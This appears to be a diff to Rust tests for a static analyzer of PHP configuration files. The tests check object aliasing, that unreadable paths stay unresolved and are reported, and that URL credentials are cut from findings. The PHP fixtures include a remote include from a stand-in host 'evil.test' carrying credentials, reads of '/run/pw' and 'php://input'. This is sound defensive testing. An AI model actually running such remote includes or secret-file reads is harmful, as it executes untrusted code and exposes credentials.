@@ -182,11 +182,21 @@ fn references_and_by_reference_functions_make_unknown() {
 }
 
 #[test]
+fn an_object_written_under_one_name_is_unknown_under_others() {
+    let config = read(
+        "<?php $a = (object) ['x' => 1]; $b = $a; $list = [$a, 2]; $c = (object) ['x' => 1]; $c->x = 5;\n\
+         function set($o) { $o->x = 9; } $d = new stdClass; set($d); $a->x = 2;",
+    );
+    let known: Vec<_> = ["a", "b", "list", "c", "d"].map(|name| variable(&config, name).unwrap()).into();
+    assert_eq!(known, [r#"{"@class":"stdClass","x":2}"#, "?", "?", r#"{"@class":"stdClass","x":5}"#, "?"]);
+}
+
+#[test]
 fn paths_that_may_not_be_read_keep_a_condition_open() {
     let config = read(
         "<?php if (file_exists('/etc/site/db.php')) { require '/etc/site/db.php'; define('A', 1); }\n\
          if (file_exists(__DIR__ . '/none.php')) { define('B', 1); }\ndefine('C', file_get_contents('/run/pw'));\n\
-         require 'php://input'; include 'http://evil.test/x';",
+         require 'php://input'; include 'http://me:hunter2@evil.test/x'; $x = is_file('ftp://me:hunter2@h/x');",
     );
     check_constants(&config, &[("A", Some("?")), ("B", None), ("C", Some("?"))]);
     let refused: Vec<_> =
@@ -197,10 +207,18 @@ fn paths_that_may_not_be_read_keep_a_condition_open() {
             ("/etc/site/db.php", Access::Exists, 1),
             ("/etc/site/db.php", Access::Include, 1),
             ("/run/pw", Access::Read, 3),
-            ("php://input", Access::Include, 4),
-            ("http://evil.test/x", Access::Include, 4),
+            ("php://…", Access::Include, 4),
+            ("http://…", Access::Include, 4),
+            ("ftp://…", Access::Exists, 4),
         ]
     );
+}
+
+#[test]
+fn addresses_in_findings_are_cut() {
+    let config =
+        read("<?php include 'http://me:hunter2@h/x'; $x = file_get_contents(\"mysql://me:hunter2@h/x\");");
+    assert!(!format!("{config:?}").contains("hunter2"), "{config:?}");
 }
 
 #[test]
